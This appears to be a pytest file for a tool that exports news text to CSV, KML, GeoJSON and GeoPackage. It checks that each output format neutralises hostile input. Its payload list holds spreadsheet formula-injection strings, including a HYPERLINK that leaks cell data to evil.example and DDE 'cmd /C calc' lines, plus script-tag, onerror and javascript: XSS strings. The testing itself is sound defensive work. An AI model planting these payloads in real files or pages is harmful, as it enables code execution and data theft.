"""A hostile corpus through every output format: no live formula in CSV, no markup that runs
in a KML balloon, nothing unescaped in GeoJSON or the GeoPackage (the map has its own
browser tests)."""

from __future__ import annotations

import csv
import json
import re
import xml.etree.ElementTree as ET

import pyogrio
import pytest
from click.testing import CliRunner

from layers.cli import layers_command

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
]


def _records() -> list[dict[str, str]]:
    out = []
    for i, p in enumerate(PAYLOADS):
        out.append(
            {
                "id": f"{p[:12]}-{i}",
                "title": p,
                "url": "javascript:alert(1)" if i % 2 else f"https://example.org/{i}?q={p}",
                "text": f"{p} Russian troops were deployed to Kherson on Monday.\r"
                f"{p}\nUkrainian drones struck Sevastopol overnight, {p} officials said.",
                "published": "2024-06-12",
            }
        )
    return out


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    src = tmp_path_factory.mktemp("hostile") / "feed.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in _records()), encoding="utf-8")
    return src


def _layers(corpus, out, fmt):
    res = CliRunner().invoke(layers_command, [str(corpus), "-o", str(out), "--format", fmt, "-q"])
    assert res.exit_code == 0, res.output
    return out


_LIVE = re.compile(r"^[=+\-@\t\r]")


def test_csv_has_no_live_formula_and_no_split_row(corpus, tmp_path):
    out = _layers(corpus, tmp_path / "csv", "csv")
    cells = 0
    for path in sorted(out.glob("*.csv")):
        with open(path, newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))
        header = rows[0]
        for row in rows[1:]:
            assert len(row) == len(header), path  # a CR or LF never splits a row
            for cell in row:
                cells += 1
                assert not _LIVE.match(cell), (path.name, cell)
    assert cells > 100


def test_kml_balloons_run_nothing(corpus, tmp_path):
    out = _layers(corpus, tmp_path / "kml", "kml")
    root = ET.parse(out / "posture.kml").getroot()
    descriptions = [el.text or "" for el in root.iter() if el.tag.endswith("description")]
    assert descriptions
    for html in descriptions:
        low = html.lower()
        assert "<script" not in low and "onerror=" not in low
        assert 'href="javascript' not in low
    names = [el.text or "" for el in root.iter() if el.tag.endswith("}name")]
    assert not any("<script" in n.lower() for n in names if n)


def test_geojson_and_gpkg_keep_the_text_as_data(corpus, tmp_path):
    out = _layers(corpus, tmp_path / "gj", "geojson")
    lines = (out / "statements.jsonl").read_text(encoding="utf-8").splitlines()
    titles = [json.loads(x)["doc_title"] for x in lines]
    assert any("<script>" in t for t in titles)  # kept verbatim, as data
    for layer in ("assets", "incidents"):
        json.loads((out / f"{layer}.geojson").read_text(encoding="utf-8"))
    gpkg = _layers(corpus, tmp_path / "gp", "gpkg") / "posture.gpkg"
    frame = pyogrio.read_dataframe(gpkg, layer="statements")
    assert any("<script>" in t for t in frame["doc_title"])
